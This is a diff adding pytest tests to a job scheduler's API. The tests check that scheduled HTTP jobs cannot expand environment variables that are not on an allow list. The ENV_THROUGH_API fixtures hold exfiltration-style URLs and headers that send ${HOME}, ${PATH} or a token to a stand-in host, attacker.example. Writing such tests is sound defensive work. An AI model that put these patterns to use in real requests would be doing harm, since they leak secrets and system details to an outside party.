@@ -503,8 +503,57 @@ def test_command_is_accepted_when_allow_http_commands_is_true(env):
     assert env.client.get("/api/scheduler/job/c").get_json()["job"]["command"] == "echo hi"
 
 
+ENV_THROUGH_API = [
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://attacker.example/?home=${HOME}&path=${PATH}"}, "url"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": ["https://example.com/", "https://attacker.example/${HOME}"]}, "url"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://${HOME}.attacker.example/"}, "url"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://attacker.example/",
+                                "headers": {"X-Home": "${HOME}"}}, "headers"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://attacker.example/",
+                                "headers": {"Authorization": "Bearer ${NEWS_TOKEN} ${HOME}"}}, "headers"),
+    ("/api/scheduler/start", {"mode": "daily", "hour": 9, "url": "https://attacker.example/?p=${PATH}"}, "url"),
+]
+
+
+@pytest.mark.parametrize(("path", "body", "field"), ENV_THROUGH_API, ids=[f"{p.rsplit('/', 1)[1]}-{f}-{i}" for i, (p, _b, f) in enumerate(ENV_THROUGH_API)])
+def test_an_environment_variable_through_the_api_is_refused_unless_allowed(env, path, body, field):
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nallow_http_env = ["NEWS_TOKEN"]\n')
+    env.add(name="Existing", hour=1, url="https://example.com/")
+    before = env.file_bytes()
+    response = env.client.post(path, json=body)
+    assert response.status_code == 422, response.get_json()
+    error = response.get_json()["error"]
+    assert error.startswith(f"{field}:") and "allow_http_env" in error and "NEWS_TOKEN" not in error.split(":")[1], error
+    assert ("${HOME}" in error) or ("${PATH}" in error)
+    assert env.file_bytes() == before
+
+
+def test_allowed_environment_variables_are_accepted_through_the_api(env):
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nallow_http_env = ["NEWS_TOKEN", "REGION"]\n')
+    env.add(name="Ok", hour=9, url="https://${REGION}.example.com/news", headers={"Authorization": "Bearer ${NEWS_TOKEN}"})
+    assert env.client.post("/api/scheduler/start", json={"mode": "hourly", "url": "https://example.com/?r=${REGION}"}).status_code == 200
+    text = env.jobs_file.read_text()
+    assert "https://${REGION}.example.com/news" in text and "Bearer ${NEWS_TOKEN}" in text and "?r=${REGION}" in text
+
+
+def test_text_that_is_not_a_variable_is_not_refused(env):
+    env.add(name="Dollar", hour=9, url="https://example.com/?price=$5&x=${1}")
+
+
+@pytest.mark.parametrize("value", ['"HOME"', '["1ABC"]', '["A B"]', '[1]', '["${HOME}"]'])
+def test_a_bad_allow_http_env_names_the_key(env, value):
+    from crawlsched.errors import JobFileError
+
+    write_jobs(env.home, f'[defaults]\ntimezone = "UTC"\nallow_http_env = {value}\n')
+    with pytest.raises(JobFileError) as info:
+        JobStore(env.jobs_file).load()
+    message = str(info.value)
+    assert "defaults.allow_http_env:" in message and "variable names" in message, message
+
+
 def test_secrets_never_appear_in_any_response(env, monkeypatch):
     monkeypatch.setenv("NEWS_TOKEN", "s3cr3t-token-value")
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nallow_http_env = ["NEWS_TOKEN"]\n')
     env.add(name="Secret", hour=9, url="https://user:hunter2@example.com/news",
             headers={"Authorization": "Bearer ${NEWS_TOKEN}", "X-Key": "plain-secret-value"})
     env.turn()
